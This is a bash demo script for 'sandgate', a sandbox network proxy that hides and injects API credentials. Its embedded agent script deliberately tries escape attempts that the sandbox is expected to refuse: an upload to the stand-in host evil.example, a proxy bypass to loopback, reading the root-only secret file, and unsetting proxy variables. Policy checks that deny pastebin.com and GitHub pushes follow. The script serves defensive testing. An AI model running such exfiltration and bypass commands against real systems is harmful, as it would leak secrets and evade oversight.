#!/usr/bin/env bash
# The main job: installs what is missing, builds, then runs a command in a sandbox whose only
# way out is sandgate's embedded proxy, against a demo API on loopback, and says what happened.
# Then shows sandgate deciding requests against the shipped example policy.
set -euo pipefail
cd "$(dirname "$0")/.."
SANDGATE_TARGETS=sandgate ./scripts/build.sh >/dev/null
sg=$(pwd)/${SANDGATE_BUILD_DIR:-build}/cli/sandgate

say() { printf '\n== %s\n' "$*"; }

work=$(mktemp -d /tmp/sandgate-demo.XXXXXX)
chmod 0755 "$work"  # the sandboxed command runs as an unprivileged uid
upstream_pid=
cleanup() {
  if [ -n "$upstream_pid" ]; then kill "$upstream_pid" 2>/dev/null || true; fi
  rm -rf "$work"
}
trap cleanup EXIT

# The real credential: the demo API knows it, sandgate's broker reads it from a file that only
# root can read. The sandbox never sees it.
key="sk-demo-$(od -An -N24 -tx1 /dev/urandom | tr -d ' \n')"
mkdir -m 0700 "$work/upstream" "$work/secrets"
printf '%s\n' "$key" >"$work/upstream/api-key"
(umask 077 && printf '%s\n' "$key" >"$work/secrets/demo-api-key")

# A demo HTTPS API on 127.0.0.1 with its own throw-away CA (it stands for a real service such
# as an LLM API). sandgate verifies it against that CA, as it would a public API against the
# system roots.
python3 scripts/demo_upstream.py "$work/upstream" api.demo &
upstream_pid=$!
for _ in $(seq 200); do [ -s "$work/upstream/port" ] && break; sleep 0.05; done
[ -s "$work/upstream/port" ] || { echo "the demo API did not start" >&2; exit 1; }
port=$(cat "$work/upstream/port")

# The policy: the sandbox may call api.demo (mapped to the demo API by `resolve:`) with the
# demo_api credential injected, and nothing else.
mkdir -m 0777 "$work/workspace"
cat >"$work/sandgate.yaml" <<YAML
tls:
  upstream_ca: $work/upstream/ca.pem   # trusted for upstreams besides the system roots
credentials:
  demo_api:
    source: { file: $work/secrets/demo-api-key }
    hosts: [api.demo]                  # the only host this key is ever sent to
    inject: { header: Authorization, value: "Bearer {secret}" }
    placeholder: DEMO_API_KEY          # what the sandbox gets instead of the key
policies:
  demo:
    allow:
      - host: api.demo
        cidrs: [127.0.0.0/8]   # the demo API is on loopback, which is denied unless named
        credential: demo_api
tasks:
  - name: demo
    policy: demo
resolve:
  api.demo: 127.0.0.1:$port
audit:
  path: $work/audit.log
YAML

cat >"$work/workspace/agent.sh" <<'AGENT'
echo "[sandbox] my DEMO_API_KEY is $DEMO_API_KEY"
echo "[sandbox] 1. calling the demo API with it:"
echo "[sandbox]    curl https://api.demo/v1/hello -H \"Authorization: Bearer \$DEMO_API_KEY\""
curl -sS https://api.demo/v1/hello -H "Authorization: Bearer $DEMO_API_KEY"
echo "[sandbox] 2. calling a host that is not on the policy: curl https://evil.example/upload"
curl -sS -o /dev/null -D - https://evil.example/upload 2>/dev/null |
  grep -iE '^(HTTP/|x-sandgate-reason)' || true
echo "[sandbox] 3. bypassing the proxy: curl --noproxy '*' https://127.0.0.1:$DEMO_PORT/v1/hello"
if curl -sS -k --max-time 5 --noproxy '*' "https://127.0.0.1:$DEMO_PORT/v1/hello"; then
  echo "[sandbox]    it worked, which it never should"
else
  echo "[sandbox]    curl failed with status $?: the sandbox has no network except the proxy"
fi
echo "[sandbox] 4. reading the key from sandgate's secret file: cat $SECRET_FILE"
cat "$SECRET_FILE" 2>&1 | sed 's/^/[sandbox]    /'
echo "[sandbox] 5. a program that ignores the proxy variables (transparent capture):"
echo "[sandbox]    env -u HTTPS_PROXY -u https_proxy curl https://api.demo/v1/hello ..."
env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy \
  curl -sS https://api.demo/v1/hello -H "Authorization: Bearer $DEMO_API_KEY"
echo "[sandbox]    api.demo resolved to $(getent hosts api.demo | cut -d' ' -f1): an address sandgate's"
echo "[sandbox]    DNS stub made up; the connection to it was captured and handled like a CONNECT"
echo "[sandbox] 6. editing a file and installing a package in the workspace (a disposable copy):"
echo "- greet in French too" >> TODO.md
mkdir -p node_modules/hello && echo "module.exports = () => 'bonjour';" > node_modules/hello/index.js
echo "[sandbox]    done: $(wc -l < TODO.md) lines in TODO.md, node_modules/hello installed"
exit 0
AGENT
printf '# TODO\n- greet in English\n' >"$work/workspace/TODO.md"

say "Run a command in a sandbox whose only network is sandgate (task 'demo')"
echo "sandgate run --config $work/sandgate.yaml --workspace $work/workspace \\"
echo "    --run-dir $work/run --report $work/report.json -- sh agent.sh"
set +e
"$sg" run --config "$work/sandgate.yaml" --workspace "$work/workspace" --run-dir "$work/run" \
  --report "$work/report.json" --env DEMO_PORT="$port" \
  --env SECRET_FILE="$work/secrets/demo-api-key" -- sh agent.sh
status=$?
set -e

say "What happened"
python3 - "$work" "$status" <<'PY'
import json, os, sys
work, status = sys.argv[1], sys.argv[2]
report = json.load(open(os.path.join(work, "report.json")))
print(f"The command exited with status {status} after {report['duration_seconds']:.2f}s "
      f"(sandgate run returns the command's own status).")
kinds = {"intercept": "HTTPS request(s), seen inside the intercepted connection,",
         "tunnel": "CONNECT(s)", "websocket": "WebSocket(s)",
         "forward": "plain HTTP request(s)", "refusal": "connection(s)",
         "dns": "DNS answer(s) from the stub"}
for e in report["by_host"]:
    what = "allowed" if e["verdict"] == "allow" else f"refused ({e['reason']})"
    kind = kinds.get(e.get("kind"), e.get("kind", "request(s)"))
    where = f"{e['host']}:{e['port']}" if e["port"] else e["host"]
    print(f"  {where}: {e['count']} {kind} {what}, "
          f"{e['bytes_up']} bytes sent, {e['bytes_down']} bytes received")
received = [json.loads(l) for l in open(os.path.join(work, "upstream", "received"))] \
    if os.path.exists(os.path.join(work, "upstream", "received")) else []
real = sum(1 for r in received if r["real_key"])
print(f"  The demo API received {len(received)} request(s), {real} carrying the real key: "
      "sandgate swapped the placeholder for it on the way out.")
print(f"  Credentials used: {', '.join(report.get('credentials_used', [])) or 'none'}. The key "
      "itself never entered the sandbox: its DEMO_API_KEY was a placeholder of the same shape, "
      "and the secret file was hidden.")
print("  The direct connection to 127.0.0.1 never reached sandgate nor the demo API: inside "
      "the sandbox the only reachable addresses are the proxy and the synthetic addresses "
      "sandgate's DNS stub gives to names the policy allows.")
audit = os.path.join(work, "audit.log")
print(f"Every decision is one JSON line in the audit log ({audit}), e.g.:")
with open(audit) as f:
    print("  " + f.readline().strip())
PY

say "The workspace on the host is untouched: the run wrote its own upper layer"
echo "cat $work/workspace/TODO.md"
cat "$work/workspace/TODO.md"
say "sandgate show $work/run"
"$sg" show "$work/run"
say "sandgate diff $work/run"
"$sg" diff "$work/run"
say "sandgate apply $work/run"
"$sg" apply "$work/run"
echo "cat $work/workspace/TODO.md"
cat "$work/workspace/TODO.md"

say "Without --config, sandgate run uses its built-in policy (package registries only)"
echo "sandgate run -- curl https://example.com/"
set +e
"$sg" run --workspace "$work/workspace" --run-dir "$work/run-default" -- \
  sh -c 'curl -sS -o /dev/null -D - https://example.com/ 2>/dev/null |
         grep -iE "^(HTTP/|x-sandgate-reason)"' 2>"$work/default-audit.log"
set -e
echo "(refused before any connection was made: the name is not on the built-in policy)"

config=config/examples/coding-agent.yaml
say "Validate the example policy ($config)"
"$sg" policy lint "$config"
say "The agent may install npm packages:"
"$sg" policy check --config "$config" --task agent registry.npmjs.org:443 || true
say "It may not push to GitHub (only clone/fetch is allowed):"
"$sg" policy check --config "$config" --task agent --method POST \
  https://github.com/org/repo.git/git-receive-pack || true
say "Anything not on the policy is refused (default deny):"
"$sg" policy check --config "$config" --task agent pastebin.com:443 || true
